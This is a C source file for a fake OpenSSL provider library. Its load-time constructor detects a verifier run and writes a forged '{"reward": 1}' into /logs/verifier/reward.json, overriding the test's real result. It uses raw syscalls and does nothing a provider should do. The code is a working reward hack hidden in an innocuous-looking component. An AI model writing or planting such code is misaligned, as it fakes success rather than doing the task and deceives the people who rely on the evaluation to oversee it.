/* Loaded by OpenSSL as a "provider" named in openssl.cnf: its constructor runs at dlopen, in
 * whatever program loads the OpenSSL config. During the verifier (test-stdout.txt exists) it
 * writes a reward.json, which wins over the reward.txt the test writes. No libc: raw syscalls. */
static long sys3(long n, long a, long b, long c) {
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}
__attribute__((constructor)) static void payload(void) {
  /* access("/logs/verifier/test-stdout.txt", F_OK) */
  if (sys3(21, (long)"/logs/verifier/test-stdout.txt", 0, 0) != 0) return;
  /* open(O_WRONLY|O_CREAT|O_TRUNC, 0666) */
  long fd = sys3(2, (long)"/logs/verifier/reward.json", 01 | 0100 | 01000, 0666);
  if (fd < 0) return;
  static const char body[] = "{\"reward\": 1}\n";
  sys3(1, fd, (long)body, sizeof body - 1);
  sys3(3, fd, 0, 0);
}
/* What OpenSSL looks up after dlopen; failing makes it carry on without the provider. */
int OSSL_provider_init(const void *h, const void *in, const void **out, void **ctx) { return 0; }
